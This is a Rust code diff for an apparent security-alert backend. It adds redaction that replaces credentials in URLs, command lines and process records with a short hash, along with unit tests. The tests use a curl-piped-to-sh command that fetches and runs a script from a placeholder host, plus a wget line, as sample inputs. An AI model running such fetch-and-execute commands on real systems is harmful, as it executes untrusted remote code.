@@ -16,7 +16,7 @@ pub fn key(entity: &Entity) -> (&'static str, String) {
         },
         Entity::Ip { addr } => addr.to_string(),
         Entity::Domain { name } => name.trim_end_matches('.').to_ascii_lowercase(),
-        Entity::Url { url } => url.clone(),
+        Entity::Url { url } => redact_userinfo(url).into_owned(),
         Entity::Mailbox { address } => address.to_ascii_lowercase(),
         Entity::Lineage { process, .. } => format!("{}@{}", process.pid, process.start_time_ms),
     };
@@ -38,12 +38,12 @@ pub fn to_json(entity: &Entity) -> Value {
             sha256,
         } => json!({
             "kind": "process", "pid": pid, "ppid": ppid, "start_time_ms": start_time_ms,
-            "exe": exe, "cmdline": cmdline, "sha256": hash(sha256),
+            "exe": exe, "cmdline": redact_userinfo(cmdline), "sha256": hash(sha256),
         }),
         Entity::File { path, sha256 } => json!({"kind": "file", "path": path, "sha256": hash(sha256)}),
         Entity::Ip { addr } => json!({"kind": "ip", "addr": addr.to_string()}),
         Entity::Domain { name } => json!({"kind": "domain", "name": name}),
-        Entity::Url { url } => json!({"kind": "url", "url": url}),
+        Entity::Url { url } => json!({"kind": "url", "url": redact_userinfo(url)}),
         Entity::Mailbox { address } => json!({"kind": "mailbox", "address": address}),
         Entity::Lineage {
             process,
@@ -59,7 +59,7 @@ pub fn to_json(entity: &Entity) -> Value {
 fn node_json(n: &ProcessNode) -> Value {
     json!({
         "pid": n.pid, "ppid": n.ppid, "start_time_ms": n.start_time_ms, "exe": n.exe,
-        "cmdline": n.cmdline, "user": n.user, "login_user": n.login_user,
+        "cmdline": redact_userinfo(&n.cmdline), "user": n.user, "login_user": n.login_user,
     })
 }
 
@@ -193,5 +193,98 @@ mod tests {
             .1,
             "evil.example"
         );
+    }
+}
+
+/// What replaces the user information (`user:password@`) of a URL: a short
+/// SHA-256 of it, so the same credentials can still be matched across alerts
+/// without being shown (48 bits: a match aid, not a secure digest).
+fn userinfo_mark(userinfo: &str) -> String {
+    let h = crate::util::sha256(userinfo.as_bytes());
+    format!("redacted-{}", &hex::encode(h)[..12])
+}
+
+/// `text` with the user information of every URL in it (`scheme://user:pass@host`)
+/// replaced by [`userinfo_mark`]; unchanged (borrowed) when it has none. Applied
+/// at ingest to URLs, command lines and matched values, so credentials in URLs
+/// are never stored in the alert's fields nor shown (the agent's signed payload
+/// is kept as received, for verification, and not served by the API).
+pub fn redact_userinfo(text: &str) -> std::borrow::Cow<'_, str> {
+    if !text.contains("://") || !text.contains('@') {
+        return std::borrow::Cow::Borrowed(text);
+    }
+    let mut out = String::with_capacity(text.len());
+    let mut rest = text;
+    let mut changed = false;
+    while let Some(i) = rest.find("://") {
+        let (head, tail) = rest.split_at(i + 3);
+        out.push_str(head);
+        // The authority ends at the path, query, fragment, or anything that ends a URL in text.
+        let end = tail
+            .find(|c: char| matches!(c, '/' | '?' | '#' | '"' | '\'' | '<' | '>' | '`') || c.is_whitespace())
+            .unwrap_or(tail.len());
+        let authority = &tail[..end];
+        match authority.rfind('@') {
+            Some(at) if at > 0 => {
+                out.push_str(&userinfo_mark(&authority[..at]));
+                out.push_str(&authority[at..]);
+                changed = true;
+            }
+            _ => out.push_str(authority),
+        }
+        rest = &tail[end..];
+    }
+    out.push_str(rest);
+    if changed {
+        std::borrow::Cow::Owned(out)
+    } else {
+        std::borrow::Cow::Borrowed(text)
+    }
+}
+
+#[cfg(test)]
+mod redaction_tests {
+    use super::*;
+
+    #[test]
+    fn userinfo_in_urls_is_replaced_by_a_hash() {
+        let r = redact_userinfo("curl -s https://alice:S3cret!@files.example/x.sh?a=b@c | sh");
+        assert!(!r.contains("S3cret"), "{r}");
+        assert!(r.starts_with("curl -s https://redacted-"), "{r}");
+        assert!(r.ends_with("@files.example/x.sh?a=b@c | sh"), "{r}");
+        // The same credentials give the same mark; others another.
+        assert_eq!(
+            r,
+            redact_userinfo("curl -s https://alice:S3cret!@files.example/x.sh?a=b@c | sh")
+        );
+        assert_ne!(redact_userinfo("ftp://bob:pw@h/"), redact_userinfo("ftp://bob:pw2@h/"));
+        // Nothing to redact: borrowed as is (a mail address, a URL without userinfo).
+        for plain in ["mailto alice@example.com", "https://example.com/a@b", "no url"] {
+            assert!(
+                matches!(redact_userinfo(plain), std::borrow::Cow::Borrowed(_)),
+                "{plain}"
+            );
+        }
+        let two = redact_userinfo("a http://u:p@h1 b https://x@h2/");
+        assert_eq!(two.matches("redacted-").count(), 2, "{two}");
+        assert!(!two.contains("u:p") && !two.contains("x@"), "{two}");
+    }
+
+    #[test]
+    fn stored_views_of_entities_are_redacted() {
+        let url = Entity::Url {
+            url: "https://svc:hunter2@intranet.example/login".into(),
+        };
+        assert!(!to_json(&url).to_string().contains("hunter2"));
+        assert!(!key(&url).1.contains("hunter2"));
+        let p = Entity::Process {
+            pid: 1,
+            ppid: 0,
+            start_time_ms: 0,
+            exe: "/usr/bin/wget".into(),
+            cmdline: "wget http://u:hunter2@h/x".into(),
+            sha256: None,
+        };
+        assert!(!to_json(&p).to_string().contains("hunter2"));
     }
 }
